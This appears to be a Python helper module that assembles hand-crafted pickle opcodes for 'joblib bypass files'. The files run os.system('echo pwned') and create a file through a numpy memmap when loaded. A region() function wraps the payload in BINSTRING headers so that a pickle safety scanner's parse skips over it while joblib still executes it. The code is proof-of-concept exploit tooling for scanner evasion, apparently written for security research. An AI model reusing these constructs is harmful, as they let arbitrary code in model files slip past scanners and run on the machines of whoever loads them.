"""Helpers of the joblib bypass files: opcodes and the byte region after a BUILD.

`check(name, data)` and `write(name, data)` are set by make.py (they write into this folder).
"""
import struct

def G(m,n): return b'c'+m.encode()+b'\n'+n.encode()+b'\n'
def U(s): b=s.encode(); return b'X'+struct.pack('<I',len(b))+b
def BINSTR_HDR(n): return b'T'+struct.pack('<i',n)
def I(n): return b'J'+struct.pack('<i',n)
def SU(s): b=s.encode(); return b'\x8c'+bytes([len(b)])+b
def SG(m,n): return U(m)+U(n)+b'\x93'
def K(n): return b'K'+bytes([n])
def PUT(i): return b'q'+bytes([i])
def GET(i): return b'h'+bytes([i])
# os.system("echo pwned"): what joblib runs in every file here.
PAYLOAD = G('os','system')+U('echo pwned')+b'\x85R'
# numpy.dtype('u1', False, True)
U1 = G('numpy','dtype')+U('u1')+b'\x89\x88\x87R'

def MAKE_FILE(memmap):
    """list(itertools.starmap(memmap, [("pwned.dat", "uint8", "w+", 0, (1,))])): creates a file."""
    return (G('builtins','list')+G('itertools','starmap')+memmap
            +b']('+U('pwned.dat')+U('uint8')+U('w+')+K(0)+K(1)+b'\x85ta'
            +b'\x86R\x85R')

def state(items, memo=1):
    """A dict state (memo `memo`) with `items` (key, value-bytes) in one SETITEMS."""
    out = b'}'+PUT(memo)+b'('
    for key, value in items:
        out += U(key)+value
    return out+b'u'
def dtype(code):  # numpy.dtype(code, False, True)
    return G('numpy','dtype')+U(code)+b'\x89\x88\x87R'

check = None
write = None

def region(j, starts, fill=b'\x00'):
    """Bytes after a BUILD: joblib resumes at j (POP + payload + STOP); each offset in
    `starts` (where the scanner / plain pass resume) gets a BINSTRING covering up to the final STOP."""
    tail = b'0'+PAYLOAD+b'.'
    r = bytearray(fill*j) + bytearray(tail)
    total = len(r)
    for s in starts:
        assert s+5 <= j, (s, j)
        r[s:s+5] = b'T'+struct.pack('<i', total-1-(s+5))
    assert len(r)==total
    return bytes(r)
def wrapper6(n, code='u1', cls=('joblib.numpy_pickle','NumpyArrayWrapper')):
    return G(*cls)+b'('+G('numpy','ndarray')+b'J'+struct.pack('<i',n)+b'\x85'+U('C')+dtype(code)+b'\x89NtR'
